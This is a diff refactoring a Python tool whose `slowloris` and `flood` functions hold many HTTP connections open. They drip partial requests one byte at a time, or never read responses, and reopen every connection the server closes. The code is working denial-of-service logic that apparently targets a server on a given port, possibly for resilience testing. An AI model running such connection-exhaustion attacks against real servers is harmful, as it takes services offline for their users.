@@ -167,6 +167,30 @@ class Pool:
         return out
 
 
+class Reopen:
+    """Connections kept opening: `pending` groups start, at most `batch` a loop turn; a failed
+    connect is retried 50 ms later; a connection the server closed reopens at once (`again`)."""
+
+    def __init__(self, pool: Pool, groups, batch: int):
+        self.pool, self.batch = pool, batch
+        self.pending, self.retry = collections.deque(groups), collections.deque()  # retry: (when, group)
+
+    def start(self, now: float) -> None:
+        while self.retry and self.retry[0][0] <= now:
+            self.pending.append(self.retry.popleft()[1])
+        for _ in range(min(len(self.pending), self.batch)):
+            group = self.pending.popleft()
+            if self.pool.start(group) is None:
+                self.retry.append((now + 0.05, group))
+
+    def later(self, group) -> None:
+        self.retry.append((time.monotonic() + 0.05, group))
+
+    def again(self, conn: Conn) -> None:
+        self.pool.close(conn, by_server=True)
+        self.pending.append(conn.group)
+
+
 def _send(conn: Conn, data: bytes) -> int | None:
     """Sends what the socket takes; None when the connection is gone."""
     try:
@@ -197,59 +221,41 @@ def _recv_gone(conn: Conn) -> tuple[bytes, bool]:
 def slowloris(args) -> None:
     pool = Pool(args.port)
     groups: list[set] = [set() for _ in range(SLOTS)]
-    pending = collections.deque(i % SLOTS for i in range(args.conns))
-    retry: collections.deque = collections.deque()  # (when, group) after a failed connect
+    opener = Reopen(pool, (i % SLOTS for i in range(args.conns)), args.batch)
     c = pool.c
     c.update(drip_bytes=0, answers=0)
     tick_every = args.interval / SLOTS
     began = time.monotonic()
-    deadline = began + args.max_seconds
-    next_tick = began + tick_every
-    tick = 0
-    next_stats = began
+    deadline, next_tick, tick, next_stats = began + args.max_seconds, began + tick_every, 0, began
     while not _stopping and time.monotonic() < deadline:
-        now = time.monotonic()
-        while retry and retry[0][0] <= now:
-            pending.append(retry.popleft()[1])
-        for _ in range(min(len(pending), args.batch)):
-            group = pending.popleft()
-            if pool.start(group) is None:
-                retry.append((now + 0.05, group))
-        timeout = max(0.0, min(next_tick, next_stats) - time.monotonic())
-        if pending:
-            timeout = 0
+        opener.start(time.monotonic())
+        timeout = 0 if opener.pending else max(0.0, min(next_tick, next_stats) - time.monotonic())
         for fd, events in pool.ep.poll(timeout, 4096):
             conn = pool.conns.get(fd)
             if conn is None:
                 continue
             if conn.state == CONNECTING:
-                if pool.connected(conn):
-                    if _send(conn, PARTIAL) is None:
-                        pool.close(conn, by_server=True)
-                        pending.append(conn.group)
-                        continue
+                if not pool.connected(conn):
+                    opener.later(conn.group)
+                elif _send(conn, PARTIAL) is None:
+                    opener.again(conn)
+                else:
                     pool.ep.modify(fd, EPOLLIN | EPOLLRDHUP)
                     groups[conn.group].add(conn)
-                else:
-                    retry.append((time.monotonic() + 0.05, conn.group))
                 continue
             data, closed = _recv_gone(conn)
-            if data:
-                c["answers"] += data.count(b"HTTP/1.")
+            c["answers"] += data.count(b"HTTP/1.")
             if closed:
                 groups[conn.group].discard(conn)
-                pool.close(conn, by_server=True)
-                pending.append(conn.group)  # reopen at once
+                opener.again(conn)  # reopen at once
         now = time.monotonic()
         if now >= next_tick:
             group = groups[tick % SLOTS]
             for conn in list(group):
-                byte = DRIP[conn.pos % len(DRIP): conn.pos % len(DRIP) + 1]
-                sent = _send(conn, byte)
+                sent = _send(conn, DRIP[conn.pos % len(DRIP): conn.pos % len(DRIP) + 1])
                 if sent is None:
                     group.discard(conn)
-                    pool.close(conn, by_server=True)
-                    pending.append(conn.group)
+                    opener.again(conn)
                 elif sent:
                     conn.pos += 1
                     c["drip_bytes"] += 1
@@ -355,51 +361,38 @@ def flood(args) -> None:
     pool = Pool(args.port)
     c = pool.c
     c.update(requests_sent=0, silent_answers=0)
-    pending = collections.deque(i % 2 for i in range(args.conns))  # 0: request, never read; 1: silent
-    retry: collections.deque = collections.deque()
+    opener = Reopen(pool, (i % 2 for i in range(args.conns)), args.batch)  # 0: request, never read; 1: silent
     began = time.monotonic()
-    deadline = began + args.max_seconds
-    next_stats = began
-    all_started_at = None
+    deadline, next_stats, all_started_at = began + args.max_seconds, began, None
     while not _stopping and time.monotonic() < deadline:
         now = time.monotonic()
-        while retry and retry[0][0] <= now:
-            pending.append(retry.popleft()[1])
-        for _ in range(min(len(pending), args.batch)):
-            group = pending.popleft()
-            if pool.start(group) is None:
-                retry.append((now + 0.05, group))
-        if all_started_at is None and not pending and not retry:
+        opener.start(now)
+        if all_started_at is None and not opener.pending and not opener.retry:
             all_started_at = now
             emit(pool.counters(), all_started=True, ramp_s=round(now - began, 2))
-        timeout = 0 if pending else max(0.0, min(next_stats - now, 0.05))
+        timeout = 0 if opener.pending else max(0.0, min(next_stats - now, 0.05))
         for fd, events in pool.ep.poll(timeout, 4096):
             conn = pool.conns.get(fd)
             if conn is None:
                 continue
             if conn.state == CONNECTING:
                 if not pool.connected(conn):
-                    retry.append((time.monotonic() + 0.05, conn.group))
-                    continue
-                if conn.group == 0:
-                    if _send(conn, REQUEST) is None:
-                        pool.close(conn, by_server=True)
-                        pending.append(conn.group)
-                        continue
+                    opener.later(conn.group)
+                elif conn.group == 1:
+                    pool.ep.modify(fd, EPOLLIN | EPOLLRDHUP)
+                elif _send(conn, REQUEST) is None:
+                    opener.again(conn)
+                else:
                     c["requests_sent"] += 1
                     pool.ep.modify(fd, EPOLLRDHUP)  # never read: only learn when it is closed
-                else:
-                    pool.ep.modify(fd, EPOLLIN | EPOLLRDHUP)
                 continue
             if conn.group == 0:
                 closed = bool(events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR))
             else:
                 data, closed = _recv_gone(conn)
-                if data:
-                    c["silent_answers"] += data.count(b"HTTP/1.")
+                c["silent_answers"] += data.count(b"HTTP/1.")
             if closed:
-                pool.close(conn, by_server=True)
-                pending.append(conn.group)  # reopen at once
+                opener.again(conn)  # reopen at once
         now = time.monotonic()
         if now >= next_stats:
             emit(pool.counters(), all_started=all_started_at is not None)
